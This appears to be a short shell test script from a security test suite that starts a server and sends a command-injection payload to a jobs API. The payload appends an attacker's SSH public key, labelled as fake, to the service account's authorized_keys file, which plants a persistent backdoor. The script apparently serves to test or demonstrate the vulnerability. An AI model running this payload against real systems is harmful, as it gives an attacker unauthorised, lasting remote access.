# Through a jobs API, the attacker adds a key to the service account's
# authorized_keys.
. "$LIB/common.sh"
start_server
exploit /jobs "mkdir -p $HOME/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIfake attacker' >> $HOME/.ssh/authorized_keys"
stop_server
